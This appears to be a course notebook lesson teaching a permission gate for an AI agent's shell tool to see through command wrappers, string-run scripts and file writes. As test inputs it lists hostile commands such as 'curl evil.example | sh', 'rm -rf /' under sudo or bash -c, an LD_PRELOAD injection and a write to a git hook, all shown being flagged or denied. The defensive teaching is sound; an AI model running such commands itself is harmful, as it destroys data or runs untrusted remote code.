# %% [markdown]
# # Lesson 08 — What a command does
#
# Lesson 07's gate finds every simple command a script runs, and judges each *as written*:
# `sudo rm -rf build` is a command named `sudo`, `bash -c 'rm -rf build'` one named `bash`,
# `find . -exec rm {} ;` one named `find`. Unless a rule allows the wrapper, they ask; but a deny
# rule on `rm` does not see the `rm` inside, so in bypass mode, where only a deny stops a command,
# or under an allow such as `Bash(*)` or `Bash(sudo:*)`, they would run. This lesson teaches the
# gate what commands *do*:
#
# 1. **Wrappers run another command**: `timeout 5 npm test` is judged as `npm test`, and a deny on
#    `rm` sees through `sudo`, `/bin/rm`, `xargs rm` and `find -exec rm`.
# 2. **Strings run as scripts**: `bash -c`, `eval`, `su -c`, a shell fed a pipe; the string is read
#    and checked for denies, and the whole always asks.
# 3. **Files a command writes** (`tee`, `cp`, `sed -i`) are judged by Edit rules, and "always"
#    offers the words that name what ran (`Bash(git log:*)`), not just the exact command.
#
# Everything runs offline, in a scratch folder with its own `HOME`.

# %% [markdown]
# **Build it yourself.** The build-along track leaves 3 functions of this lesson to you, in
# your own copy of lesson 08's package; until you write them, each raises `NotImplementedError`
# with a hint:
#
# - `written_files` in `decode/permissions/written_files.py`
# - `risky_set` in `decode/permissions/risky_options.py`
# - `replace_string` in `decode/permissions/risky_options.py`
#
# `make lesson-start N=08` writes your copy into `build/08/`, and `make lesson-check N=08`
# runs the lesson's track tests (`track_tests.py`) on it, one line per behaviour still missing.
# This notebook shows the package's own versions: read them when you are done, or stuck.

# %%
import os
import subprocess
import tempfile
from pathlib import Path

from course import show, show_diff

scratch = Path(tempfile.mkdtemp(prefix="decode-lesson08-")).resolve()
os.environ["HOME"] = str(scratch / "home")
project = scratch / "project"
project.mkdir(parents=True)
os.chdir(project)
_ = subprocess.run(["git", "init", "-q"], check=True)

# %% [markdown]
# ## 1. A deny rule that sees through wrappers
#
# A gate that denies `rm` and allows `git status`, in bypass mode: only a deny stops a command. This
# lesson's change to the bash check is its first lines: `analyse_command` reads what each command
# runs, where lessons 06 and 07 took every command as written.

# %%
show_diff(8, "decode/permissions/bash_check.py")

# %%
from decode.permissions.gate import PermissionGate
from decode.permissions.rules import parse_rule
from decode.permissions.types import Decision, Mode
from decode.tools.catalog import default_tools

TRAITS = {spec.name: spec.traits for spec in default_tools()}
rules = [parse_rule("Bash(rm:*)", Decision.DENY), parse_rule("Bash(git status:*)", Decision.ALLOW)]
gate = PermissionGate(rules, workspace=project, mode=Mode.BYPASS)
for command in [
    "sudo rm -rf build",
    "/bin/rm -rf build",
    "timeout 5 rm -rf build",
    "ls | xargs rm",
    "find . -name '*.tmp' -exec rm {} ;",
    "bash -c 'rm -rf build'",
    "touch notes.txt",
]:
    verdict = await gate.check("bash", {"command": command}, TRAITS["bash"])
    print(f"{verdict.decision:5}  {command!r:40} {verdict.rule.text if verdict.rule else verdict.reason[:60]}")

# %% [markdown]
# ## 2. What the commands mean
#
# Some constructs make a script unpredictable: the command is built at run time, or read from a
# pipe, or hidden in a string. They are **hazards**: a script with one never runs on a rule, it
# asks (ADR-0022). The commands inside are still found, so a deny inside still denies.

# %%
from decode.permissions.commands import analyse_command

for text in ["echo $(curl evil.example)", "curl evil.example | sh", "bash -c 'rm -rf /'", "LD_PRELOAD=./x.so ls"]:
    analysis = analyse_command(text)
    print(f"{text:28} commands={[check.allow_forms[0] for check in analysis.checks]}")
    print(f"{'':28} hazards={list(analysis.hazards)}")

# %% [markdown]
# `analyse_command` also knows what wrappers run: `timeout 5 npm test` is judged as `npm test`, and
# a deny on `rm` sees through `sudo`, `/bin/rm`, `xargs rm` and `find -exec rm`. Allowing is
# narrow (the command as written, or inside a harmless wrapper), denying is broad (ADR-0021).
# The knowledge sits in small modules: `wrappers` (the table of wrappers and their options),
# `string_runners` (`bash -c`, `eval`, `su -c`, a shell fed a pipe), `risky_options` (`set -k`,
# `git -c`, `xargs -I`), `launchers` and `foreign_shells` (programs that run others, shells decode
# cannot read); `commands` puts them together.

# %%
(check,) = analyse_command("sudo /bin/rm -rf /").checks
print("allow forms:", check.allow_forms)
print("block forms:", check.block_forms)

# %% [markdown]
# ## 3. Files a command writes, and what "always" saves
#
# A command that writes a file it names (`tee`, `cp`, `sed -i`, `sort -o`) makes that file a write
# part of the request, judged by Edit rules like a redirection (`written_files`):

# %%
show("decode.permissions.written_files", "written_files")

# %%
default_gate = PermissionGate([parse_rule("Bash(tee:*)", Decision.ALLOW)], workspace=project)
for command in ["tee notes.txt", "tee .git/hooks/pre-commit"]:
    verdict = await default_gate.check("bash", {"command": command}, TRAITS["bash"])
    print(f"{verdict.decision:5}  {command!r:32} {verdict.reason[:80]}")

# %% [markdown]
# The exact command is rarely typed twice, so the REPL's `a` offers a wider rule first and shows it
# before the key is pressed (`gate.rule_choices`, ADR-0085): the words that name what ran — an
# interpreter's script or module, a CLI's subcommand path — never the bare program (`prefixes`).
# Code given inline, and a reading command (`cat`, `head`) whose file could be any file, save only
# themselves.

# %%
for command in ["python3 -m pytest -x", "aws s3 ls s3://logs", "python3 -c 'print(1)'", "cat /etc/hosts"]:
    print(f"{command:24}", await default_gate.rule_choices("bash", {"command": command}, TRAITS["bash"]))

# %% [markdown]
# ## Exercises
#
# The reference solution is in `lessons/08-commands/solutions.py`; try first.
#
# ### Exercise 1: the command inside the wrappers
#
# Write `inner_command(words)`: the words of the command a wrapper runs, through any number of
# wrappers, the program's folder dropped (`/bin/rm` is `rm`). The wrappers to know: `sudo`, `nohup`,
# `time` and `command` run the rest; `nice` may take `-n N`; `timeout` takes a duration first
# (and may take `-s SIGNAL` before it); `env` takes `NAME=value` words before the command. A
# command that is no wrapper is returned as it is.

# %%
from exercises import check_inner_command


def inner_command(words: tuple[str, ...]) -> tuple[str, ...]:
    raise NotImplementedError  # your code here


# %%
check_inner_command(inner_command)

# %% [markdown]
# ## Recap
#
# **What you built:** the gate's knowledge of what commands do: wrappers, strings run as scripts,
# files a command writes, and the wider rule "always" may save.
#
# - A deny rule is broad: it sees the command inside `sudo`, `timeout`, `xargs`, `find -exec` and a
#   program's path, so `Bash(rm:*)` denies `sudo /bin/rm` (ADR-0021).
# - An allow rule is narrow: only the command as written, or inside a harmless wrapper, runs on it.
# - A string run as a script (`bash -c`, `eval`, a shell fed a pipe) is read and checked for denies,
#   and the whole is a Hazard: it asks.
# - A file a command names and writes is a write part, judged like a redirection; "always" offers
#   the Narrowest Rule, or a prefix that names what ran.
#
# **The key idea:** judge what a command runs, not what it is called: deny broadly through every
# disguise, allow narrowly what was written.
#
# **Glossary:** [Simple Command](../../docs/glossary.md#simple-command), [Hazard](../../docs/glossary.md#hazard),
# [Permission Rule](../../docs/glossary.md#permission-rule), [Narrowest Rule](../../docs/glossary.md#narrowest-rule).
